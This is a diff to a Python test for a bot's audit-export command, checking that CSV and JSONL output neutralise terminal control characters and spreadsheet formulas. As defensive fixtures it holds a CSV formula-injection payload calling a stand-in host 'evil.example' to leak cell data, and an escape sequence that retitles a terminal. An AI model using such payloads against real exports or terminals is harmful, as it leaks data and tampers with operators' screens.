@@ -1,17 +1,13 @@
 """`python -m bot audit` under hostile text (#33.11): what programs and people wrote reaches an operator's
 terminal and spreadsheet. Control characters (ESC and BEL that retitle a terminal, C1's CSI, DEL, a lone
-CR) never come out raw, in either format; a CSV cell starting with a formula character opens as text."""
+CR) never come out raw, in either format; a CSV cell starting with a formula character opens as text. The command
+runs in this process (`tests/support/cli.py`), its output read as the UTF-8 bytes a terminal gets."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
-import os
-import subprocess
-import sys
-from pathlib import Path
 from typing import Any
 
 import aiohttp
@@ -19,20 +15,18 @@ import aiohttp
 from bot.devslack.server import SlackStandIn
 from bot.report.audit_export import COLUMNS, safe_cell
 from tests.conftest import ALICE, APPROVALS, CAROL, SALES, Worker
+from tests.support.cli import bot_command
 from tests.support.hitl import reject, until
 
-ROOT = Path(__file__).resolve().parents[2]
 RETITLE = "\x1b]0;pwned\x07"  # OSC 0: sets the terminal's title, ended by BEL
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x7f", "\r")  # ESC, BEL, C1 CSI, DEL, CR (a lone one moves the cursor)
 
 
-async def audit_cli(*args: str, redis_url: str) -> subprocess.CompletedProcess[bytes]:
-    command = [sys.executable, "-m", "bot", "audit", *args]
-    env = {**os.environ, "REDIS_URL": redis_url, "PYTHONIOENCODING": "utf-8"}
-    return await asyncio.to_thread(
-        subprocess.run, command, env=env, cwd=ROOT, capture_output=True, timeout=60, check=False
-    )
+async def audit_cli(*args: str, redis_url: str) -> tuple[int, bytes, str]:
+    """`python -m bot audit *args`: its exit code, its output as UTF-8 bytes, what it said on standard error."""
+    done = await bot_command("audit", *args, environ={"REDIS_URL": redis_url})
+    return done.returncode, done.stdout.encode("utf-8"), done.stderr
 
 
 async def api_call(worker: Worker, key: str, path: str, body: dict[str, Any]) -> tuple[int, dict[str, Any]]:
@@ -72,11 +66,11 @@ async def test_the_audit_export_neutralises_control_characters_and_formulas(
 
     await until(decided, what="every rejection audited")
 
-    table = await audit_cli("--since", "1h", "--channel", SALES, "--format", "csv", redis_url=redis_url)
-    assert table.returncode == 0, table.stderr
+    code, table, said = await audit_cli("--since", "1h", "--channel", SALES, "--format", "csv", redis_url=redis_url)
+    assert code == 0, said
     for raw in RAW_CONTROLS:
-        assert raw.encode() not in table.stdout.replace(b"\r\n", b"\n"), repr(raw)  # (the csv row ends are \r\n)
-    rows = list(csv.DictReader(io.StringIO(table.stdout.decode("utf-8"), newline="")))
+        assert raw.encode() not in table.replace(b"\r\n", b"\n"), repr(raw)  # (the csv row ends are \r\n)
+    rows = list(csv.DictReader(io.StringIO(table.decode("utf-8"), newline="")))
     assert list(rows[0]) == list(COLUMNS)  # the columns as before
     allowed = next(r for r in rows if r["event"] == "allowed")
     assert allowed["reason"] == "not asked: the allow-list of key emailer (␛]0;pwned␇--allow \ufffd31mlist_*␡␍)"
@@ -90,11 +84,11 @@ async def test_the_audit_export_neutralises_control_characters_and_formulas(
     ]
     assert all(r["by"] == CAROL and r["outcome"] == "rejected" for r in rows if r["event"] == "decision")
 
-    lines = await audit_cli("--since", "1h", "--channel", SALES, "--format", "jsonl", redis_url=redis_url)
-    assert lines.returncode == 0, lines.stderr
+    code, lines, said = await audit_cli("--since", "1h", "--channel", SALES, "--format", "jsonl", redis_url=redis_url)
+    assert code == 0, said
     for raw in RAW_CONTROLS:
-        assert raw.encode() not in lines.stdout, repr(raw)
-    entries = [json.loads(line) for line in lines.stdout.decode("utf-8").splitlines()]
+        assert raw.encode() not in lines, repr(raw)
+    entries = [json.loads(line) for line in lines.decode("utf-8").splitlines()]
     allowed_entry = next(e for e in entries if e["event"] == "allowed")  # JSON keeps the text as it was sent
     assert allowed_entry["agent"] == RETITLE + "mailbox"
     assert allowed_entry["rule"] == f"{RETITLE}--allow \x9b31mlist_*\x7f\r"
